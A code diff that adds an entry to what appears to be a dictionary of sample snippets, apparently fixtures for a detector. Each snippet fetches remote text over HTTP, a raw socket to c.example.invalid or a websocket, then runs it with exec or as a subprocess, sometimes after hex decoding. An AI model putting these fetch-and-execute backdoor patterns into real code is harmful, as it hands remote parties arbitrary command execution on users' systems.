@@ -23,6 +23,7 @@ class Feed:
             exec(row["draw"])
 """,
     "kept, and run within": "class Feed:\n    def pull(self):\n        self.text = requests.get(URL).text\n\n    def draw(self):\n        def inner():\n            exec(self.text)\n        return inner\n",
+    "a program and its arguments": "import aiohttp, asyncio, json\n\nclass Relay:\n    async def run(self):\n        async with aiohttp.ClientSession() as s, s.ws_connect(URL) as ws:\n            async for told in ws:\n                await self.frame(json.loads(told.data))\n\n    async def frame(self, f):\n        await getattr(self, '_op_' + f['op'])(f)\n\n    async def _op_probe(self, f):\n        await asyncio.create_subprocess_exec(*f['argv'])\n",
     "the lines of a connection": "import socket\n\nclass Bus:\n    def ask(self):\n        with socket.create_connection(('c.example.invalid', 6380)) as line:\n            return [self.read(line.makefile('rb'))]\n\n    def read(self, file):\n        return file.readline().strip()\n\n    def go(self):\n        (item,) = self.ask()\n        exec(item.decode())\n",
     "decoded": "def undo(t):\n    return bytes.fromhex(t[3:]).decode()\n\ndef go():\n    exec(undo(requests.get(URL).text))\n",
     "a thread": "import threading\ndef run(text):\n    exec(text)\n\ndef go():\n    threading.Thread(target=run, args=(requests.get(URL).text,)).start()\n",
